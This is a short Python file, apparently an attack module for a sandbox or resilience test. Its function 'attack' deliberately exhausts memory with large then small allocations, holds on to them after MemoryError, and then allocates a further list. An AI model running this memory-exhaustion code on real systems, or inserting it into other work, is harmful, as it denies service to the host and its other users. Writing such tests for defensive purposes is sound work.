"""Fills memory, and keeps it full after the MemoryError."""

KEPT = []


def attack(path, port, pid):
    while True:
        try:
            KEPT.append(bytearray(1 << 20))
        except MemoryError:
            break
    while True:
        try:
            KEPT.append(bytearray(1 << 10))
        except MemoryError:
            return list(range(200_000))
